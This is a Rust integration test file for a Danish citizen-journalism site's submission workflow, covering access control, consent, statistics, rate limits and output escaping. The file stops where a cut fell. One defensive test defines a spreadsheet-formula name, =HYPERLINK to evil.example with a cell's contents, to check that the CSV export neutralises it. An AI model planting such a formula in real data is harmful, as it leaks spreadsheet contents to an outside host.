//! Citizen journalism on both backends: a journalist sends a submission with a photo, staff ask for
//! changes, the journalist sends it again and staff publish it, with an email at every
//! hand-over; a journalist can neither see nor change anyone else's submission, nor review; photos
//! need the consent; the contributor figures equal an independent count; a closed account
//! keeps its byline; what journalists type stays inert on every page that shows it.

use app::{
    accounts::Role,
    articles::{queries::NewArticle, ArticleStatus},
    db::{Backend, Db},
    i18n::Lang,
    images::process::variants,
    period::Period,
    submissions::{queries::DraftChange, SubmissionState},
};
use chrono::{DateTime, TimeZone, Utc};

use crate::{
    fixtures::{account, exif_of, jpeg_with_exif, TestAccount},
    helpers::{Answer, TestApp, Visitor},
    on_both_backends,
};

on_both_backends!(
    a_submission_goes_from_draft_to_published_with_an_email_at_every_handover,
    a_journalist_acts_only_on_their_own_submissions_and_never_reviews,
    photos_need_the_consent_and_the_text_stays,
    contributor_figures_equal_an_independent_count,
    a_closed_account_keeps_its_byline_and_links,
    xss_payloads_in_a_submission_are_inert_on_both_sides,
    one_account_cannot_flood_the_others_with_emails,
    the_page_and_the_forms_refuse_alike,
);

/// A 900 x 600 JPEG with EXIF naming the camera's maker ("Canon").
fn photo_with_exif() -> Vec<u8> {
    // TIFF, little-endian: IFD0 with one entry, Make (0x010F) = "Canon".
    let mut tiff = b"II\x2a\x00\x08\x00\x00\x00".to_vec();
    tiff.extend_from_slice(&[1, 0, 0x0F, 0x01, 2, 0, 6, 0, 0, 0, 26, 0, 0, 0, 0, 0, 0, 0]);
    tiff.extend_from_slice(b"Canon\x00");
    jpeg_with_exif(900, 600, &tiff)
}

/// The journalist's form with a title, a text, one new photo (if any) and the consent (if
/// `consent`), posted with `intent`.
fn submission_form(
    title: &str,
    body: &str,
    photo: Option<Vec<u8>>,
    consent: bool,
    intent: &str,
) -> reqwest::multipart::Form {
    let mut form = reqwest::multipart::Form::new()
        .text("heading", title.to_owned())
        .text("body", body.to_owned())
        .text("new_caption", "Bordene er dækket")
        .text("new_alt", "Lange borde med hvide duge i ParkCafeen")
        .text("intent", intent.to_owned());
    if consent {
        form = form.text("consent", "on");
    }
    if let Some(bytes) = photo {
        form = form.part(
            "photo",
            reqwest::multipart::Part::bytes(bytes)
                .file_name("borde.jpg")
                .mime_str("image/jpeg")
                .unwrap(),
        );
    }
    form
}

/// The id at the end of a redirect to a submission's page (`…/indsendelser/7?besked=…`).
fn submission_id(answer: &Answer) -> i64 {
    let location = answer.location.as_deref().expect("a redirect");
    location
        .split('?')
        .next()
        .and_then(|path| path.rsplit('/').next())
        .and_then(|id| id.parse().ok())
        .unwrap_or_else(|| panic!("a submission's page: {location}"))
}

/// The (recipient, subject) of every email in the outbox, oldest first.
async fn emails(db: &Db) -> Vec<(String, String)> {
    let mut outbox = db.outbox().list_outbox(500).await.unwrap();
    outbox.sort_by_key(|entry| entry.id);
    outbox
        .into_iter()
        .map(|entry| (entry.to_address, entry.subject))
        .collect()
}

/// Whether an email to `to` whose subject contains `subject` is in the outbox.
async fn emailed(db: &Db, to: &str, subject: &str) -> bool {
    emails(db)
        .await
        .iter()
        .any(|(address, title)| address == to && title.contains(subject))
}

async fn a_submission_goes_from_draft_to_published_with_an_email_at_every_handover(
    backend: Backend,
) {
    let app = TestApp::spawn(backend).await;
    let db = app.db();
    let journalist = account(Role::Journalist)
        .name("Amina Hassan")
        .create(db)
        .await;
    let editor = account(Role::Staff).create(db).await;
    let quiet = account(Role::Staff)
        .name("Stille Medarbejder")
        .create(db)
        .await;
    db.accounts()
        .set_notify_submissions(quiet.id, false)
        .await
        .unwrap();
    let writer = app.logged_in_as(&journalist).await;
    let staff = app.logged_in_as(&editor).await;

    // A draft with a photo first: only the journalist knows of it.
    let title = "Fællesspisning med 80 naboer";
    let saved = writer
        .post_multipart(
            "/borgerjournalist/indsendelser/ny",
            submission_form(
                title,
                "Der var **mange** til spisning.",
                Some(photo_with_exif()),
                true,
                "save",
            ),
        )
        .await;
    assert_eq!(saved.status, 303, "{}", saved.body);
    let id = submission_id(&saved);
    let own = format!("/borgerjournalist/indsendelser/{id}");
    let review = format!("/personale/indsendelser/{id}");
    assert!(emails(db).await.is_empty(), "a draft tells nobody");
    assert_eq!(
        staff.get(&review).await.status,
        404,
        "staff do not see drafts"
    );
    let page = writer.get(saved.location.as_deref().unwrap()).await;
    assert!(page.body.contains("Din kladde er gemt."), "{}", page.body);
    assert!(page
        .body
        .contains("Lange borde med hvide duge i ParkCafeen"));

    // Sent: the staff who want it get an email with the link; the queue counts it.
    let submission = db.submissions().submission(id).await.unwrap().unwrap();
    let photo_id = submission.photos[0].id.to_string();
    let sent = writer
        .post_multipart(
            &own,
            reqwest::multipart::Form::new()
                .text("heading", title)
                .text("body", "Der var **mange** til spisning.")
                .text("consent", "on")
                .text("photo_id", photo_id.clone())
                .text("photo_caption", "Bordene er dækket")
                .text("photo_alt", "Lange borde med hvide duge i ParkCafeen")
                .text("intent", "send"),
        )
        .await;
    assert_eq!(sent.status, 303, "{}", sent.body);
    assert!(emailed(db, &editor.email, "Ny indsendelse: Fællesspisning").await);
    assert!(
        !emailed(db, &quiet.email, "Ny indsendelse").await,
        "not to staff who turned the emails off"
    );
    let queue = staff.get("/personale/indsendelser").await;
    assert!(
        queue.body.contains("1 venter på redaktionen."),
        "{}",
        queue.body
    );
    assert!(queue.body.contains("Amina Hassan"));
    let home = staff.get("/personale").await;
    assert!(
        home.body.contains("Indsendelser (1 venter)"),
        "the staff navigation counts it"
    );

    // Asking for changes needs the words; then the journalist gets them by email.
    let empty = staff
        .post_form(&format!("{review}/aendringer"), &[("changes", " ")])
        .await;
    assert_eq!(empty.status, 422);
    assert!(empty.body.contains("Skriv, hvad journalisten skal rette."));
    let asked = staff
        .post_form(
            &format!("{review}/aendringer"),
            &[("changes", "Skriv gerne, hvad der var at spise.")],
        )
        .await;
    assert_eq!(asked.status, 303, "{}", asked.body);
    assert!(emailed(db, &journalist.email, "Ret gerne").await);
    let page = writer.get(&own).await;
    assert!(page.body.contains("Skriv gerne, hvad der var at spise."));
    assert!(page.body.contains("Ret og send igen"));

    // A comment from staff reaches the journalist too; the journalist answers in the thread.
    let commented = staff
        .post_form(
            &format!("{review}/kommentar"),
            &[("message", "Flot billede!")],
        )
        .await;
    assert_eq!(commented.status, 303);
    assert!(emailed(db, &journalist.email, "Ny kommentar").await);
    let answered = writer
        .post_form(
            &format!("{own}/kommentar"),
            &[("message", "Tak, jeg retter det.")],
        )
        .await;
    assert_eq!(answered.status, 303);

    // Sent again with the change: staff hear that it was corrected.
    let again = writer
        .post_multipart(
            &own,
            reqwest::multipart::Form::new()
                .text("heading", title)
                .text("body", "Der var **mange** til spisning. Vi fik lasagne.")
                .text("consent", "on")
                .text("photo_id", photo_id)
                .text("photo_caption", "Bordene er dækket")
                .text("photo_alt", "Lange borde med hvide duge i ParkCafeen")
                .text("intent", "send"),
        )
        .await;
    assert_eq!(again.status, 303, "{}", again.body);
    assert!(emailed(db, &editor.email, "Rettet indsendelse").await);

    // Staff publish it, editing the lead first: the article carries the journalist's name and
    // the photo, which is served without EXIF.
    let published = staff
        .post_form(
            &format!("{review}/udgiv"),
            &[
                ("heading", title),
                ("lead", "80 naboer spiste sammen."),
                ("body", "Der var **mange** til spisning. Vi fik lasagne."),
                ("issue", ""),
            ],
        )
        .await;
    assert_eq!(published.status, 303, "{}", published.body);
    let path = published.location.clone().unwrap();
    assert_eq!(path, "/nyheder/faellesspisning-med-80-naboer");
    assert!(emailed(db, &journalist.email, "er udgivet").await);
    let resident = app.visitor();
    let front = resident.get("/").await;
    assert!(front.body.contains(title), "on the front page");
    let article = resident.get(&path).await;
    assert_eq!(article.status, 200);
    assert!(article.body.contains("Af Amina Hassan"), "{}", article.body);
    let image = db
        .submissions()
        .submission(id)
        .await
        .unwrap()
        .unwrap()
        .photos[0]
        .image
        .clone();
    assert!(article.body.contains(&image.url(image.widths[0])));
    let served = resident.get_bytes(&image.url(image.widths[0])).await;
    assert_eq!(exif_of(&served), None, "no camera data survives");

    // Its history says who did what, in order; nothing can be done to it any more.
    let submission = db.submissions().submission(id).await.unwrap().unwrap();
    assert_eq!(submission.state, SubmissionState::Published);
    let kinds: Vec<&str> = submission
        .events
        .iter()
        .map(|event| event.kind.as_str())
        .collect();
    assert_eq!(
        kinds,
        [
            "created",
            "sent",
            "changes",
            "comment",
            "comment",
            "sent",
            "published"
        ]
    );
    let late = staff
        .post_form(&format!("{review}/afvis"), &[("reason", "For sent.")])
        .await;
    assert_eq!(late.status, 303);
    assert_eq!(
        db.submissions()
            .submission(id)
            .await
            .unwrap()
            .unwrap()
            .state,
        SubmissionState::Published
    );
}

async fn a_journalist_acts_only_on_their_own_submissions_and_never_reviews(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let db = app.db();
    let owner = account(Role::Journalist).create(db).await;
    let other = account(Role::Journalist)
        .name("Anden Skribent")
        .create(db)
        .await;
    let owner_browser = app.logged_in_as(&owner).await;
    let sent = owner_browser
        .post_multipart(
            "/borgerjournalist/indsendelser/ny",
            submission_form("Loppemarked i gården", "Mange boder.", None, false, "send"),
        )
        .await;
    assert_eq!(sent.status, 303, "{}", sent.body);
    let id = submission_id(&sent);
    let before = db.submissions().submission(id).await.unwrap().unwrap();
    assert_eq!(before.state, SubmissionState::Sent);

    let intruder: Visitor = app.logged_in_as(&other).await;
    let own = format!("/borgerjournalist/indsendelser/{id}");
    let page = intruder.get(&own).await;
    assert_eq!(page.status, 403);
    assert!(
        !page.body.contains("Loppemarked"),
        "nothing of the submission leaks"
    );
    let edit = intruder
        .post_multipart(
            &own,
            submission_form("Overtaget", "Min tekst.", None, false, "send"),
        )
        .await;
    assert_eq!(edit.status, 403);
    let comment = intruder
        .post_form(&format!("{own}/kommentar"), &[("message", "Hej")])
        .await;
    assert_eq!(comment.status, 403);
    // Every review address, also for the submission's own journalist.
    for browser in [&intruder, &owner_browser] {
        for (step, field) in [
            ("udgiv", "heading"),
            ("aendringer", "changes"),
            ("afvis", "reason"),
            ("kommentar", "message"),
        ] {
            let answer = browser
                .post_form(
                    &format!("/personale/indsendelser/{id}/{step}"),
                    &[(field, "Loppemarked i gården"), ("body", "x")],
                )
                .await;
            assert_eq!(answer.status, 403, "{step}");
        }
        assert_eq!(browser.get("/personale/indsendelser").await.status, 403);
        let api = browser.post_form("/personale/api/indsendelser", &[]).await;
        assert_eq!(api.status, 403);
    }
    let after = db.submissions().submission(id).await.unwrap().unwrap();
    assert_eq!(after, before, "nothing changed");
    assert!(
        db.articles().all_articles().await.unwrap().is_empty(),
        "nothing was published"
    );
}

async fn photos_need_the_consent_and_the_text_stays(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let db = app.db();
    let journalist = account(Role::Journalist).create(db).await;
    let writer = app.logged_in_as(&journalist).await;
    let refused = writer
        .post_multipart(
            "/borgerjournalist/indsendelser/ny",
            submission_form(
                "Nabofest <i>i</i> parken",
                "Vi grillede & dansede.",
                Some(photo_with_exif()),
                false,
                "send",
            ),
        )
        .await;
    assert_eq!(refused.status, 422);
    let document = scraper::Html::parse_document(&refused.body);
    let error = scraper::Selector::parse("#consent-error").unwrap();
    let message = document
        .select(&error)
        .next()
        .expect("the message stands by the box");
    assert!(message
        .text()
        .collect::<String>()
        .contains("Sæt kryds, når personerne på billederne har sagt ja."));
    let title = scraper::Selector::parse("input#heading").unwrap();
    assert_eq!(
        document
            .select(&title)
            .next()
            .unwrap()
            .value()
            .attr("value"),
        Some("Nabofest <i>i</i> parken")
    );
    let body = scraper::Selector::parse("textarea#body").unwrap();
    assert_eq!(
        document
            .select(&body)
            .next()
            .unwrap()
            .text()
            .collect::<String>(),
        "Vi grillede & dansede."
    );
    assert!(
        db.submissions()
            .of_author(journalist.id)
            .await
            .unwrap()
            .is_empty(),
        "nothing was saved"
    );
    assert!(emails(db).await.is_empty());

    // A photo needs its description too; a submission with neither text nor photo cannot be sent.
    let no_alt = writer
        .post_multipart(
            "/borgerjournalist/indsendelser/ny",
            reqwest::multipart::Form::new()
                .text("heading", "Nabofest")
                .text("consent", "on")
                .text("new_alt", " ")
                .text("intent", "save")
                .part(
                    "photo",
                    reqwest::multipart::Part::bytes(photo_with_exif())
                        .file_name("fest.jpg")
                        .mime_str("image/jpeg")
                        .unwrap(),
                ),
        )
        .await;
    assert_eq!(no_alt.status, 422);
    assert!(no_alt.body.contains("Beskriv kort, hvad billedet viser."));
    let empty = writer
        .post_multipart(
            "/borgerjournalist/indsendelser/ny",
            submission_form("Nabofest", " ", None, false, "send"),
        )
        .await;
    assert_eq!(empty.status, 422);
    assert!(empty
        .body
        .contains("Skriv en tekst, eller tilføj mindst ét billede"));
}

/// A seeded submission: its author, photos, when it was sent and when (if) it was published.
type Planned<'a> = (&'a TestAccount, usize, DateTime<Utc>, Option<DateTime<Utc>>);

/// Stores a small photo as an image of `author`.
async fn stored_photo(db: &Db, author: i64) -> i64 {
    let variants = variants(&photo_with_exif()).unwrap();
    db.images()
        .save_image(Some(author), &variants, Utc::now())
        .await
        .unwrap()
}

fn at(year: i32, month: u32, day: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(year, month, day, 12, 0, 0).unwrap()
}

/// A submission of `author` with `photos` photos, sent at `sent` and (if `published`) published
/// then by `staff`.
pub(crate) async fn seeded_submission(
    db: &Db,
    author: &TestAccount,
    staff: &TestAccount,
    photos: usize,
    sent: DateTime<Utc>,
    published: Option<DateTime<Utc>>,
) {
    let mut id = None;
    for n in 0..photos.max(1) {
        let new_photo = if n < photos {
            Some((
                stored_photo(db, author.id).await,
                String::new(),
                "Et foto".to_owned(),
            ))
        } else {
            None
        };
        let change = DraftChange {
            title: format!("Stykke {}", uuid::Uuid::new_v4().simple()),
            body: "Tekst.".into(),
            consent: true,
            new_photo,
            ..DraftChange::default()
        };
        id = db
            .submissions()
            .save_draft(id, author.id, &change, None, sent)
            .await
            .unwrap();
    }
    let id = id.unwrap();
    let change = DraftChange {
        title: "Sendt".into(),
        consent: true,
        ..DraftChange::default()
    };
    let no_emails = |_: i64, _: bool| Vec::new();
    db.submissions()
        .save_draft(Some(id), author.id, &change, Some(&no_emails), sent)
        .await
        .unwrap();
    if let Some(published) = published {
        let slug = format!("stykke-{}", uuid::Uuid::new_v4().simple());
        let article = NewArticle {
            slug,
            title: "Stykke".into(),
            lead: String::new(),
            body: String::new(),
            body_html: String::new(),
            byline: author.name.clone(),
            status: ArticleStatus::Published,
            publish_at: Some(published),
            issue_id: None,
            issue_position: 0,
            tag_ids: Vec::new(),
            cover_image_id: None,
            cover_alt: String::new(),
        };
        let done = db
            .submissions()
            .publish(id, staff.id, &article, &[], published)
            .await
            .unwrap();
        assert!(done.is_some());
    }
}

async fn contributor_figures_equal_an_independent_count(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let db = app.db();
    let staff = account(Role::Staff).create(db).await;
    let amina = account(Role::Journalist).name("Amina").create(db).await;
    let bo = account(Role::Journalist).name("Bo").create(db).await;
    let carl = account(Role::Journalist).name("Carl").create(db).await;
    // (author, photos, sent, published): 2026 and 2025, and across the new year.
    let plan: Vec<Planned> = vec![
        (&amina, 2, at(2026, 2, 1), Some(at(2026, 2, 3))),
        (&amina, 0, at(2026, 5, 1), Some(at(2026, 5, 2))),
        (&amina, 1, at(2026, 6, 1), None),
        (&bo, 3, at(2025, 12, 30), Some(at(2026, 1, 5))),
        (&bo, 1, at(2025, 3, 1), Some(at(2025, 3, 2))),
        (&carl, 0, at(2025, 8, 1), Some(at(2025, 8, 9))),
        (&carl, 2, at(2026, 11, 20), None),
    ];
    for (author, photos, sent, published) in &plan {
        seeded_submission(db, author, &staff, *photos, *sent, *published).await;
    }

    // The same figures, counted here by hand from the plan: (sent, published, photos) per
    // journalist in a year.
    let count = |year: i32, who: &TestAccount| {
        let mut sums = (0, 0, 0);
        for (author, photos, sent, published) in &plan {
            if author.id != who.id {
                continue;
            }
            use chrono::Datelike;
            if sent.year() == year {
                sums.0 += 1;
            }
            if published.is_some_and(|at| at.year() == year) {
                sums.1 += 1;
                sums.2 += *photos as i64;
            }
        }
        sums
    };
    let report = app::figures::api::build_report(
        db,
        Lang::DA,
        Period::year(2026).unwrap(),
        app::clock::today(),
    )
    .await
    .unwrap();
    let figures = &report.contributors;
    for who in [&amina, &bo, &carl] {
        let line = figures
            .by_journalist
            .iter()
            .find(|line| line.name == who.name)
            .unwrap_or_else(|| panic!("a line for {}", who.name));
        let (sent, published, photos) = count(2026, who);
        assert_eq!(
            (
                line.current.sent,
                line.current.published,
                line.current.photos
            ),
            (sent, published, photos),
            "{} in 2026",
            who.name
        );
        let (sent, published, photos) = count(2025, who);
        assert_eq!(
            (
                line.previous.sent,
                line.previous.published,
                line.previous.photos
            ),
            (sent, published, photos),
            "{} in 2025",
            who.name
        );
    }
    let total_2026 = [&amina, &bo, &carl]
        .iter()
        .map(|who| count(2026, who))
        .fold((0, 0, 0), |a, b| (a.0 + b.0, a.1 + b.1, a.2 + b.2));
    assert_eq!(
        (
            figures.total.sent,
            figures.total.published,
            figures.total.photos
        ),
        total_2026
    );
    // Active in 2026: Amina (sent and published), Bo (published), Carl (sent): 3; delivering:
    // Amina and Bo. In 2025: Bo and Carl, both delivering.
    assert_eq!(figures.active, (3, 2));
    assert_eq!(figures.delivering, (2, 2));
    let magazine = db.site().site_info().await.unwrap().magazine_name;
    let sentence = format!(
        "I 2026 leverede 2 borgerjournalister 3 bidrag (artikler og billeder) til {magazine} \
         og hjemmesiden."
    );
    assert!(
        report.sentences.contains(&sentence),
        "{:?}",
        report.sentences
    );

    // The page and the CSV show the same.
    let browser = app.logged_in_as(&staff).await;
    let page = browser.get("/personale/tal?aar=2026").await;
    assert_eq!(page.status, 200);
    assert!(page
        .body
        .contains("3 aktive borgerjournalister, og 2 fik udgivet bidrag"));
    let report = browser.get("/personale/tal/rapport?aar=2026").await;
    assert!(report.body.contains(&sentence), "{}", report.body);
    let csv = String::from_utf8(browser.get_bytes("/personale/tal.csv?aar=2026").await).unwrap();
    assert!(
        csv.contains("Borgerjournalist;Amina;;;2026;;;;;;;;;;;;;;3;2;2\r\n"),
        "Amina: 3 sent, 2 published with 2 photos in 2026:\n{csv}"
    );
    assert!(
        csv.contains("Borgerjournalist;Bo;;;2026;;;;;;;;;;;;;;0;1;3\r\n"),
        "{csv}"
    );
    assert!(
        csv.contains("Borgerjournalist;Bo;;;2025;;;;;;;;;;;;;;2;1;1\r\n"),
        "{csv}"
    );
}

async fn a_closed_account_keeps_its_byline_and_links(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let db = app.db();
    let admin = account(Role::Admin).create(db).await;
    let journalist = account(Role::Journalist).name("Yusuf Ali").create(db).await;
    for day in [3, 4] {
        seeded_submission(
            db,
            &journalist,
            &admin,
            1,
            at(2026, 3, 1),
            Some(at(2026, 3, day)),
        )
        .await;
    }
    let articles = db
        .articles()
        .public_articles(Utc::now(), None, None, 10, 0)
        .await
        .unwrap()
        .0;
    assert_eq!(articles.len(), 2);
    assert!(articles.iter().all(|a| a.author_id == Some(journalist.id)));

    let admin_browser = app.logged_in_as(&admin).await;
    let closed = admin_browser
        .post_form(
            &format!("/personale/brugere/{}/deaktiver", journalist.id),
            &[],
        )
        .await;
    assert_eq!(closed.status, 303);
    let resident = app.visitor();
    let page = resident.get(&articles[0].path()).await;
    assert_eq!(page.status, 200);
    assert!(page.body.contains("Af Yusuf Ali"), "the byline stays");
    assert!(page.body.contains("Mere af Yusuf Ali"));
    assert!(
        page.body
            .contains(&format!("href=\"{}\"", articles[1].path())),
        "it links to the journalist's other article"
    );
    // Its photo is public, as the article is.
    assert!(page.body.contains("/billeder/"));
    let state = db
        .submissions()
        .of_author(journalist.id)
        .await
        .unwrap()
        .into_iter()
        .map(|submission| submission.state)
        .collect::<Vec<_>>();
    assert_eq!(
        state,
        [SubmissionState::Published, SubmissionState::Published]
    );
}

async fn xss_payloads_in_a_submission_are_inert_on_both_sides(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let db = app.db();
    let journalist = account(Role::Journalist).create(db).await;
    let editor = account(Role::Staff).create(db).await;
    let writer = app.logged_in_as(&journalist).await;
    let staff = app.logged_in_as(&editor).await;
    let payloads: Vec<&str> = include_str!("xss_payloads.txt")
        .lines()
        .filter(|line| !line.is_empty())
        .collect();

    // One submission with a photo, sent, so both sides see it; then every payload in its title,
    // text, the photo's caption and description, and a comment from each side.
    let sent = writer
        .post_multipart(
            "/borgerjournalist/indsendelser/ny",
            submission_form(
                "Plain",
                "Plain text.",
                Some(photo_with_exif()),
                true,
                "send",
            ),
        )
        .await;
    assert_eq!(sent.status, 303, "{}", sent.body);
    let id = submission_id(&sent);
    let own = format!("/borgerjournalist/indsendelser/{id}");
    let review = format!("/personale/indsendelser/{id}");
    let pages = [
        (&writer, "/borgerjournalist".to_owned()),
        (&writer, own.clone()),
        (&staff, "/personale/indsendelser".to_owned()),
        (&staff, review.clone()),
    ];
    // Staff ask for changes, so the journalist may edit again; the pages as they are then are
    // what every payload is compared with.
    let asked = staff
        .post_form(&format!("{review}/aendringer"), &[("changes", "Ret.")])
        .await;
    assert_eq!(asked.status, 303);
    let mut baseline = Vec::new();
    for (browser, page) in &pages {
        let answer = browser.get(page).await;
        assert_eq!(answer.status, 200, "{page}");
        baseline.push(crate::articles::active_content(&answer.body));
    }
    let photo_id = db
        .submissions()
        .submission(id)
        .await
        .unwrap()
        .unwrap()
        .photos[0]
        .id
        .to_string();
    for (n, payload) in payloads.iter().enumerate() {
        let title: String = payload.chars().take(200).collect();
        let saved = writer
            .post_multipart(
                &own,
                reqwest::multipart::Form::new()
                    .text("heading", title)
                    .text("body", payload.to_string())
                    .text("consent", "on")
                    .text("photo_id", photo_id.clone())
                    .text(
                        "photo_caption",
                        payload.chars().take(500).collect::<String>(),
                    )
                    .text(
                        "photo_alt",
                        format!("x{}", payload.chars().take(400).collect::<String>()),
                    )
                    .text("intent", "save"),
            )
            .await;
        assert_eq!(saved.status, 303, "{payload}: {}", saved.body);
        // A comment from each side in turn (each account may write 60 an hour).
        let (browser, page) = if n % 2 == 0 {
            (&writer, &own)
        } else {
            (&staff, &review)
        };
        let said = browser
            .post_form(&format!("{page}/kommentar"), &[("message", *payload)])
            .await;
        assert_eq!(said.status, 303, "{payload}");
        for ((browser, page), before) in pages.iter().zip(&baseline) {
            let answer = browser.get(page).await;
            assert_eq!(answer.status, 200, "{page}");
            assert_eq!(
                &crate::articles::active_content(&answer.body),
                before,
                "payload {payload:?} became active on {page}"
            );
        }
    }
}

async fn one_account_cannot_flood_the_others_with_emails(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let db = app.db();
    let journalist = account(Role::Journalist).create(db).await;
    let writer = app.logged_in_as(&journalist).await;
    let sent = writer
        .post_multipart(
            "/borgerjournalist/indsendelser/ny",
            submission_form("Vinterbad", "Koldt vand.", None, false, "send"),
        )
        .await;
    assert_eq!(sent.status, 303);
    let own = format!("/borgerjournalist/indsendelser/{}", submission_id(&sent));
    // The send was the first hand-over of the hour; the rest of the hour's go to comments.
    let limit = server::limits::HANDOVERS_PER_ACCOUNT;
    for n in 1..limit {
        let text = format!("Kommentar {n}");
        let said = writer
            .post_form(&format!("{own}/kommentar"), &[("message", text.as_str())])
            .await;
        assert_eq!(said.status, 303, "comment {n}");
    }
    let refused = writer
        .post_form(&format!("{own}/kommentar"), &[("message", "En til")])
        .await;
    assert_eq!(refused.status, 429);
    assert!(refused.body.contains("Vent"), "{}", refused.body);
    let submission = db
        .submissions()
        .submission(submission_id(&sent))
        .await
        .unwrap()
        .unwrap();
    let comments = submission
        .events
        .iter()
        .filter(|event| event.kind.as_str() == "comment")
        .count();
    assert_eq!(
        comments as u32,
        limit - 1,
        "the refused comment was not written"
    );
}

/// A text nested too deep to clean cheaply is refused with a Danish message by the field and
/// everything typed kept, in the form, its preview and the live preview; a saved text is
/// cleaned once and its page shows what was stored.
async fn a_text_nested_too_deep_is_refused_and_a_saved_one_is_shown_as_stored(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let journalist = account(Role::Journalist).create(app.db()).await;
    let writer = app.logged_in_as(&journalist).await;
    let message = "for mange lag inden i hinanden";
    for deep in [
        ">".repeat(50_000),
        "<blockquote>".repeat(8_000),
        (0..30)
            .map(|level| format!("{}- punkt\n", "  ".repeat(level)))
            .collect(),
    ] {
        for intent in ["save", "preview"] {
            let refused = writer
                .post_multipart(
                    "/borgerjournalist/indsendelser/ny",
                    submission_form("Dybt citat", &deep, None, true, intent),
                )
                .await;
            let status = if intent == "save" { 422 } else { 200 };
            assert_eq!(refused.status, status, "{intent}");
            assert!(refused.body.contains(message), "{intent}");
            assert!(refused.body.contains("Dybt citat"), "the title is kept");
        }
        let live = writer
            .request(reqwest::Method::POST, "/borgerjournalist/forhaandsvisning")
            .header("origin", writer.origin())
            .body(deep.clone());
        let live = writer.send(live).await;
        assert_eq!(live.status, 200);
        assert!(live.body.contains(message), "{}", live.body);
        assert!(!live.body.contains("<blockquote>"));
    }
    // More text than any form may send (the file aside) is not read, let alone shown again.
    let huge = writer
        .post_multipart(
            "/borgerjournalist/indsendelser/ny",
            submission_form("Langt", &">".repeat(2_000_000), None, true, "preview"),
        )
        .await;
    assert_eq!(huge.status, 413);
    assert!(huge.body.len() < 100_000, "the text is not shown again");
    // So are thousands of fields, each small: a form with a file has at most 200.
    let mut many = submission_form("Mange felter", "Kort tekst.", None, true, "save");
    for n in 0..server::extract::MOST_UPLOAD_FIELDS {
        many = many.text("caption_1", format!("Billedtekst {n}"));
    }
    let refused = writer
        .post_multipart("/borgerjournalist/indsendelser/ny", many)
        .await;
    assert_eq!(refused.status, 413);
    let submissions = app
        .db()
        .submissions()
        .of_author(journalist.id)
        .await
        .unwrap();
    assert!(submissions.is_empty(), "nothing was saved");
    // The same form sent urlencoded (as it is without a file) is held to the same number.
    let captions: Vec<String> = (0..server::extract::MOST_UPLOAD_FIELDS)
        .map(|n| format!("Billedtekst {n}"))
        .collect();
    let mut fields = vec![
        ("heading", "Mange felter"),
        ("body", "Kort tekst."),
        ("consent", "on"),
        ("intent", "save"),
    ];
    fields.extend(
        captions
            .iter()
            .map(|caption| ("photo_caption", caption.as_str())),
    );
    let refused = writer
        .post_form("/borgerjournalist/indsendelser/ny", &fields)
        .await;
    assert_eq!(refused.status, 413);
    let few = writer
        .post_form("/borgerjournalist/indsendelser/ny", &fields[..40])
        .await;
    assert_eq!(
        few.status, 303,
        "a form of 40 fields is saved: {}",
        few.body
    );
    let saved = app
        .db()
        .submissions()
        .of_author(journalist.id)
        .await
        .unwrap();
    assert_eq!(saved.len(), 1, "only the form within the bound was saved");

    // A text within the bound is saved with its cleaned HTML, which the review shows as stored.
    let within = format!("{} dybt nok", ">".repeat(10));
    let sent = writer
        .post_multipart(
            "/borgerjournalist/indsendelser/ny",
            submission_form("Citat", &within, None, true, "send"),
        )
        .await;
    assert_eq!(sent.status, 303, "{}", sent.body);
    let id = submission_id(&sent);
    let editor = account(Role::Staff).create(app.db()).await;
    let staff = app.logged_in_as(&editor).await;
    let review = format!("/personale/indsendelser/{id}");
    assert!(staff.get(&review).await.body.contains("<blockquote>"));
    app::db_run!(app.db(), |pool| {
        sqlx::query("update submissions set body_html = '<p>gemt som renset</p>' where id = $1")
            .bind(id)
            .execute(pool)
            .await
            .map(drop)
    })
    .unwrap();
    let page = staff.get(&review).await;
    assert!(
        page.body.contains("gemt som renset"),
        "the stored HTML, not the text cleaned again"
    );
}

on_both_backends!(a_text_nested_too_deep_is_refused_and_a_saved_one_is_shown_as_stored);

/// A journalist whose name is a spreadsheet formula appears in the figures' CSV as text that
/// Excel shows and never runs.
async fn a_name_that_is_a_formula_is_text_in_the_csv(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let db = app.db();
    let evil = "=HYPERLINK(\"https://evil.example/?x=\"&A2;\"Åbn\")";
    let author = account(Role::Journalist).name(evil).create(db).await;
    let staff = account(Role::Staff).create(db).await;
    let sent = Utc.with_ymd_and_hms(2025, 3, 4, 10, 0, 0).unwrap();
    seeded_submission(db, &author, &staff, 0, sent, None).await;
    let csv = app
        .logged_in_as(&staff)
        .await
        .get_bytes("/personale/tal.csv?aar=2025")
        .await;
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(&csv[3..]);
    let names: Vec<String> = reader
        .records()
        .map(|record| record.unwrap()[1].to_owned())
        .collect();
    assert!(names.contains(&format!("'{evil}")), "{names:?}");
    assert!(!names.iter().any(|name| name.starts_with('=')), "{names:?}");
}

on_both_backends!(a_name_that_is_a_formula_is_text_in_the_csv);

/// Fourteen uploads to one submission at the same moment leave it with ten photos; every other
/// upload gets the form again with the Danish message by the photo field.
async fn fourteen_uploads_at_once_leave_ten_photos(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let journalist = account(Role::Journalist).create(app.db()).await;
    let writer = app.logged_in_as(&journalist).await;
    let first = writer
        .post_multipart(
            "/borgerjournalist/indsendelser/ny",
            submission_form("Mange billeder", "Tekst.", None, true, "save"),
        )
        .await;
    assert_eq!(first.status, 303, "{}", first.body);
    let id = submission_id(&first);
    let address = format!("/borgerjournalist/indsendelser/{id}");
    let uploads = (0..14).map(|_| {
        writer.post_multipart(
            &address,
            submission_form(
                "Mange billeder",
                "Tekst.",
                Some(photo_with_exif()),
                true,
                "save",
            ),
        )
    });
    let answers = futures_util::future::join_all(uploads).await;
    let statuses: Vec<u16> = answers.iter().map(|answer| answer.status).collect();
    let submission = app
        .db()
        .submissions()
        .submission(id)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(submission.photos.len(), 10, "{statuses:?}");
    assert_eq!(
        statuses.iter().filter(|status| **status == 303).count(),
        10,
        "{statuses:?}"
    );
